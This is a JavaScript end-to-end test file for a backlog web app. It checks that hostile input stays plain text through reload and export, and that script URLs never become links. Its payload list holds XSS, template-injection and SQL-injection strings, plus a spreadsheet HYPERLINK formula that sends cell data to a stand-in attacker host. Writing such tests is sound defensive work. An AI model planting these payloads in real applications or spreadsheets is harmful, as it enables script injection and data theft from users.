// Strings that try to be something else, in every field: they stay text, everywhere, and come back unchanged.

import { scenario, assert } from "./lib/app.mjs";
import { cell, edit, exported, row, saved } from "./lib/backlog.mjs";

const HOSTILE = [
  `<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `"><svg/onload=window.__pwned=1>`,
  `\u202Egnp.exe \u0000 \uFFFF \u200B zero`,
  `{{constructor.constructor('window.__pwned=1')()}}`,
  `'; DROP TABLE items; --`,
  `𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧‍👦 مرحبا 漢字`,
];

scenario("hostile strings stay text in every field, and survive a reload and an export", async (app) => {
  await app.open();
  await saved(app.page);
  await app.page.getByRole("button", { name: "Start empty" }).click();
  for (const text of HOSTILE) {
    await app.page.getByRole("button", { name: "Add item", exact: true }).click();
    await app.page.getByLabel("New items, one a line").fill(`"${text.replaceAll("\\", "\\\\").replaceAll('"', '\\"')}"`);
    await app.page.getByRole("button", { name: "Add the item" }).click();
    await app.page.getByRole("dialog").waitFor({ state: "detached" });
    await app.page.getByRole("complementary").waitFor();
  }
  const file = JSON.parse(await exported(app));
  assert.equal(file.workspace.items.length, HOSTILE.length);
  await saved(app.page);
  await app.reload();
  await app.page.locator('[data-testid="backlog-row"]:not(.blank)').first().waitFor();
  assert.equal(await app.page.evaluate(() => window.__pwned), undefined);
  assert.equal(await app.page.locator('[data-testid="backlog-row"]:not(.blank)').count(), HOSTILE.length);
  const again = JSON.parse(await exported(app));
  // Whoever opens a workspace has this week's health noted in it.
  delete again.workspace.settings.health;
  delete file.workspace.settings.health;
  assert.deepEqual(again.workspace, file.workspace);
});

scenario("a link that is no web address is never clickable", async (app) => {
  await app.open();
  await row(app.page, "Label AI-generated replies").click();
  const panel = app.page.getByRole("complementary");
  await panel.getByRole("tab", { name: /^Links/ }).click();
  for (const address of ["javascript:window.__pwned=1", " java\tscript:alert(1)", "data:text/html,<script>1</script>"]) {
    await panel.getByLabel(/address/i).first().fill(address);
    await panel.getByRole("button", { name: /^Add/ }).click();
  }
  const hrefs = await panel.getByRole("link").evaluateAll((all) => all.map((a) => a.getAttribute("href")));
  assert.ok(hrefs.every((href) => /^(https?:|mailto:|#)/.test(href)), `only web addresses are links: ${hrefs}`);
});
